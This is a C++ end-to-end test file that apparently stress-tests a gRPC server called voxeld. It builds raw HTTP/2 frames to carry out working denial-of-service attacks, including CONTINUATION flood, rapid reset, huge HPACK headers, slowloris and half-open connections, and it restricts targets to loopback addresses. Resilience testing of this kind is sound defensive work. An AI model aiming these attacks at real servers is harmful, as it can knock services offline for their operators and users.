#include "tests/e2e/hostile/attacks.h"

#include <arpa/inet.h>
#include <linux/tcp.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdlib>
#include <cstring>

#include "tests/e2e/hostile/http2_bytes.h"

namespace voxeld::e2e {
namespace {

using std::chrono::milliseconds;
using std::chrono::steady_clock;

constexpr size_t kFramePayload = 16384;
constexpr size_t kHugeField = 15'000'000;
constexpr milliseconds kDrip{100};
constexpr char kHealthPath[] = "/grpc.health.v1.Health/Check";
constexpr char kStreamPath[] = "/voxeld.v1.SceneService/Stream";
constexpr char kUpdatePath[] = "/voxeld.v1.SceneService/ApplyUpdate";

class Victim {
 public:
  Victim(const std::string& target, steady_clock::time_point end)
      : begin_(steady_clock::now()), end_(end), socket_(BeginToConnect(target)) {
    pollfd poll_fd = {socket_, POLLOUT, 0};
    if (socket_ < 0 || poll(&poll_fd, 1, Left()) != 1) return;
    int error = 0;
    socklen_t length = sizeof(error);
    getsockopt(socket_, SOL_SOCKET, SO_ERROR, &error, &length);
    result_.connected = error == 0;
  }
  ~Victim() {
    if (socket_ >= 0) close(socket_);
  }
  Victim(const Victim&) = delete;
  Victim& operator=(const Victim&) = delete;

  bool connected() const { return result_.connected; }

  // All of it; false when the connection or the time is over.
  bool Send(std::string_view bytes) {
    while (!bytes.empty()) {
      if (!Await(POLLOUT)) return false;
      const ssize_t n = send(socket_, bytes.data(), bytes.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
      if (n < 0 && errno != EAGAIN) {
        result_.cut = true;
        return false;
      }
      if (n > 0) bytes.remove_prefix(static_cast<size_t>(n));
    }
    return true;
  }

  // Reads until a frame of `type` begins; what was before is thrown away. For what is small.
  bool AwaitFrame(FrameType type) {
    for (;;) {
      while (got_.size() >= 9) {
        const auto byte = [&](size_t i) {
          return static_cast<size_t>(static_cast<uint8_t>(got_[i]));
        };
        const size_t size = byte(0) << 16 | byte(1) << 8 | byte(2);
        if (byte(3) == static_cast<size_t>(type)) return true;
        if (got_.size() < 9 + size) break;
        got_.erase(0, 9 + size);
      }
      keep_ = true;
      if (!Await(POLLIN)) return false;
      keep_ = false;
    }
  }

  // Waits for the end, reading what comes; `pause` at most. False when it has come.
  bool Idle(milliseconds pause) {
    const auto until = std::min(end_, steady_clock::now() + pause);
    while (steady_clock::now() < until) {
      const auto left =
          std::chrono::duration_cast<milliseconds>(until - steady_clock::now()) + milliseconds(1);
      pollfd poll_fd = {socket_, POLLIN, 0};
      if (poll(&poll_fd, 1, static_cast<int>(left.count())) == 1 && !Read()) return false;
    }
    return steady_clock::now() < end_;
  }

  AttackResult Result() {
    result_.seconds = std::chrono::duration<double>(steady_clock::now() - begin_).count();
    tcp_info info = {};
    socklen_t length = sizeof(info);
    if (socket_ >= 0 && getsockopt(socket_, IPPROTO_TCP, TCP_INFO, &info, &length) == 0) {
      result_.bytes_delivered = info.tcpi_bytes_acked;
    }
    return result_;
  }

  void SetTrusted() { result_.trusted = true; }

 private:
  int Left() const {
    const auto left = std::chrono::duration_cast<milliseconds>(end_ - steady_clock::now());
    return static_cast<int>(std::max<int64_t>(0, left.count()));
  }

  // Until one of `events`; what comes meanwhile is read. False when the connection or time is over.
  bool Await(short events) {
    for (;;) {
      pollfd poll_fd = {socket_, static_cast<short>(events | POLLIN), 0};
      if (poll(&poll_fd, 1, Left()) != 1) return false;
      if ((poll_fd.revents & (POLLIN | POLLERR | POLLHUP)) != 0 && !Read()) return false;
      if ((poll_fd.revents & events) != 0) return steady_clock::now() < end_;
    }
  }

  bool Read() {
    char buffer[16384];
    const ssize_t n = recv(socket_, buffer, sizeof(buffer), MSG_DONTWAIT);
    if (n > 0 && keep_) got_.append(buffer, static_cast<size_t>(n));
    if (n > 0 || (n < 0 && errno == EAGAIN)) return true;
    result_.cut = true;
    return false;
  }

  const steady_clock::time_point begin_, end_;
  const int socket_;
  std::string got_;
  bool keep_ = false;
  AttackResult result_;
};

void HugeHeader(Victim& victim) {
  std::string begin = CallFields(kHealthPath);
  begin.push_back('\0');
  begin += HpackInteger(1, 7) + "x" + HpackInteger(kHugeField, 7);
  if (!victim.Send(Frame(FrameType::kHeaders, 0, 1, begin))) return;
  const std::string more = Frame(FrameType::kContinuation, 0, 1, std::string(kFramePayload, 'x'));
  for (size_t sent = 0; sent < kHugeField; sent += kFramePayload) {
    if (!victim.Send(more)) return;
  }
}

void VarintPadding(Victim& victim) {
  std::string begin = CallFields(kHealthPath);
  begin.push_back('\0');
  begin += HpackInteger(1, 7) + "x" + "\x7f";
  if (!victim.Send(Frame(FrameType::kHeaders, 0, 1, begin))) return;
  const std::string more =
      Frame(FrameType::kContinuation, 0, 1, std::string(kFramePayload, '\x80'));
  while (victim.Send(more)) {
  }
}

void ContinuationFlood(Victim& victim) {
  if (!victim.Send(Frame(FrameType::kHeaders, 0, 1, CallFields(kHealthPath)))) return;
  std::string fields;
  for (int i = 0; fields.size() + 16 < kFramePayload; ++i) {
    fields += Field("x" + std::to_string(i), "y");
  }
  const std::string more = Frame(FrameType::kContinuation, 0, 1, fields);
  while (victim.Send(more)) {
  }
}

void Resets(Victim& victim, const char* path, uint32_t stream) {
  const std::string fields = CallFields(path);
  for (;;) {
    std::string some;
    for (int i = 0; i < 16; ++i, stream += 2) {
      some += Frame(FrameType::kHeaders, kEndHeaders, stream, fields);
      some += Frame(FrameType::kResetStream, 0, stream, std::string_view("\0\0\0\x08", 4));
    }
    if (!victim.Send(some)) return;
  }
}

// One call that is answered.
bool EarnTrust(Victim& victim) {
  const bool answered =
      victim.Send(Frame(FrameType::kHeaders, kEndHeaders, 1, CallFields(kHealthPath)) +
                  Frame(FrameType::kData, kEndStream, 1, GrpcMessage(""))) &&
      victim.AwaitFrame(FrameType::kHeaders);
  if (answered) victim.SetTrusted();
  return answered;
}

void LargeFirstCall(Victim& victim) {
  // A field that nobody knows, of 1 MiB: a message that can be parsed.
  const size_t size = 1u << 20;
  std::string message = "\xfa\x01";
  for (size_t left = size; left > 0; left >>= 7) {
    message.push_back(static_cast<char>((left & 127) | (left >= 128 ? 128 : 0)));
  }
  message.append(size, 'x');
  if (!victim.Send(Frame(FrameType::kHeaders, kEndHeaders, 1, CallFields(kUpdatePath)))) return;
  const std::string data = GrpcMessage(message);
  for (size_t at = 0; at < data.size(); at += kFramePayload) {
    if (!victim.Send(
            Frame(FrameType::kData, 0, 1, std::string_view(data).substr(at, kFramePayload)))) {
      return;
    }
  }
}

}  // namespace

std::vector<Attack> AllAttacks() {
  return {Attack::kHugeHeader,     Attack::kVarintPadding,     Attack::kContinuationFlood,
          Attack::kRapidReset,     Attack::kTrustedRapidReset, Attack::kTrustedUnsentReset,
          Attack::kLargeFirstCall, Attack::kSlowLoris,         Attack::kHalfOpen};
}

const char* AttackName(Attack attack) {
  switch (attack) {
    case Attack::kHugeHeader:
      return "huge_header";
    case Attack::kVarintPadding:
      return "varint_padding";
    case Attack::kContinuationFlood:
      return "continuation_flood";
    case Attack::kRapidReset:
      return "rapid_reset";
    case Attack::kTrustedRapidReset:
      return "trusted_rapid_reset";
    case Attack::kTrustedUnsentReset:
      return "trusted_unsent_reset";
    case Attack::kLargeFirstCall:
      return "large_first_call";
    case Attack::kSlowLoris:
      return "slow_loris";
    case Attack::kHalfOpen:
      return "half_open";
  }
  return "";
}

AttackResult RunAttack(Attack attack, const std::string& target, steady_clock::time_point end) {
  Victim victim(target, end);
  if (!victim.connected()) return victim.Result();
  const bool silent = attack == Attack::kHalfOpen || attack == Attack::kSlowLoris;
  if (!silent && !victim.Send(Greeting())) return victim.Result();
  switch (attack) {
    case Attack::kHugeHeader:
      HugeHeader(victim);
      break;
    case Attack::kVarintPadding:
      VarintPadding(victim);
      break;
    case Attack::kContinuationFlood:
      ContinuationFlood(victim);
      break;
    case Attack::kRapidReset:
      Resets(victim, kStreamPath, 1);
      break;
    case Attack::kTrustedRapidReset:
      if (EarnTrust(victim)) Resets(victim, kStreamPath, 3);
      break;
    case Attack::kTrustedUnsentReset:
      if (EarnTrust(victim)) Resets(victim, kHealthPath, 3);
      break;
    case Attack::kLargeFirstCall:
      LargeFirstCall(victim);
      break;
    case Attack::kSlowLoris:
      for (const char byte : kPreface) {
        if (!victim.Send({&byte, 1}) || !victim.Idle(kDrip)) break;
      }
      break;
    case Attack::kHalfOpen:
      break;
  }
  while (victim.Idle(std::chrono::hours(1))) {  // whatever came of it
  }
  return victim.Result();
}

int BeginToConnect(const std::string& target) {
  const size_t colon = target.rfind(':');
  sockaddr_in name = {};
  name.sin_family = AF_INET;
  name.sin_port = htons(static_cast<uint16_t>(std::atoi(target.c_str() + colon + 1)));
  if (inet_pton(AF_INET, target.substr(0, colon).c_str(), &name.sin_addr) != 1) return -1;
  if ((ntohl(name.sin_addr.s_addr) >> 24) != IN_LOOPBACKNET) return -1;  // nobody else is attacked
  const int made = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  if (made >= 0 && connect(made, reinterpret_cast<sockaddr*>(&name), sizeof(name)) != 0 &&
      errno != EINPROGRESS) {
    close(made);
    return -1;
  }
  return made;
}

}  // namespace voxeld::e2e
